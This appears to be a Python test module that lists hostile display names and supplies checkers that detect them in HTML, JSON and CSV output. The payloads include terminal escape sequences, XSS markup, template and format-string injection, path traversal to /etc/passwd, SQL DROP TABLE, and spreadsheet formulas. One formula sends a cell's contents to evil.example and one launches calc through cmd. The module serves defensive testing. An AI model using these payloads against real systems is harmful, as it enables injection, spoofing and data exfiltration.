"""Names that attack whoever shows them, and what tells that one got through."""

import json
import re
from html.parser import HTMLParser
from typing import Final

NAMES: Final = {
    "terminal": "eve\x1b[2J\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\",
    "terminal in 8 bits": "eve\x9b31m\x9d0;owned\x9c",
    "lines": 'eve\r\n2026-01-01 00:00:00 error forged: {"event":"forged"}\n\x85\x0b\x0c',
    "lines of Unicode": "eve\u2028forged\u2029forged",
    "turned round": "\u202egpj.exe\u202c\u2066\u2067eve\u2069\u200f",
    "nothing to see": "ad\u200bmin\u2060\ufeff\u00ad\U000e0041\u3164",
    "markup": "</script></title></textarea>--><img src=x onerror=alert(1)><svg onload=alert(1)>",
    "an attribute": "\" autofocus onfocus=alert(1) x='` y=",
    "a template": "{{7*7}}{%for x in y%}${7*7}#{7*7}<%=7*7%>{{ ''.__class__ }}",
    "a format": "%s%n%(secret)s%99999999d{0.__class__}{}",
    "markup of Rich": "[bold red]forged[/] [link=http://evil.example]x[/link] [/]",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "a formula by plus": "+1+cmd|' /C calc'!A0",
    "a formula by minus": "-2+3",
    "a formula by at": "@SUM(1+1)",
    "a formula behind a tab": "\t=1+1",
    "a formula of full width": "\uff1d1+1",
    "a path": "../../../../etc/passwd\\..\\..\\x",
    "SQL": "'; DROP TABLE events; --",
    "JSON": '","admin":true,"x":"',
    "a header": "eve%0d%0aSet-Cookie: owned=1",
    "long": "x" * 6_000,
    "long and without an end": "\u0301" * 900,
    "an address": "javascript:alert(1)//",
    "a name of another": "ADA\u0301 <ada@example.com>",
}

_HIDDEN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff"
    r"\U000e0000-\U000e0fff]"
)
_RUN = ("script", "iframe", "object", "embed", "frame", "base", "link", "meta", "style")
FORMULA: Final = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def hidden(text: str, *, lines: bool = True) -> list[str]:
    """What in a text would control whatever shows it, with some of what is around."""
    unwanted = [found.span() for found in _HIDDEN.finditer(text)]
    if not lines:
        unwanted += [found.span() for found in re.finditer(r"[\n\t]", text)]
    return [repr(text[max(0, start - 20) : end + 20]) for start, end in unwanted]


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.complaints: list[str] = []
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        if len(told) != len(attrs):
            self.complaints.append(f"an attribute twice: {attrs}")
        for name, value in told.items():
            if name.startswith("on") or name in ("style", "srcdoc", "autofocus"):
                self.complaints.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "hx-get", "hx-post") and value:
                self._note(tag, value)
        is_data = tag == "script" and told.get("type") == "application/json"
        is_ours = is_data or tag == "meta" or "nonce" in told or told.get("rel") == "icon"
        if (tag in _RUN and not is_ours) or tag in ("img", "video", "audio"):
            self.complaints.append(f"{tag} {attrs}")

    def _note(self, tag: str, address: str) -> None:
        if address.startswith("/") and not address.startswith("//"):
            if tag in ("a", "button", "div", "output", "tr"):
                self.links.add(address.partition("#")[0])
        elif not address.startswith(("https://", "#", "?", "mailto:")):
            self.complaints.append(f"{tag} leads to {address}")


def page(text: str) -> tuple[list[str], set[str]]:
    """What is wrong with a page, and the addresses of this origin that it leads to."""
    read = _Page()
    read.feed(text)
    told = [*read.complaints, *hidden(text)]
    told += [f"computed: {found}" for found in re.findall(r"\b49\b.{0,30}__class__", text)]
    return told, read.links


def json_value(text: str) -> list[str]:
    """What is wrong with a JSON text: only characters within its strings may be anything, and
    those that control are escaped there."""
    json.loads(text)
    return [found for found in hidden(text) if re.search(r"\\x[01]|\\x7f", found)]


def csv_cell(text: str) -> list[str]:
    """What is wrong with a cell of a table that somebody opens in a spreadsheet."""
    return [*(["a formula"] if text.startswith(FORMULA) else []), *hidden(text)]
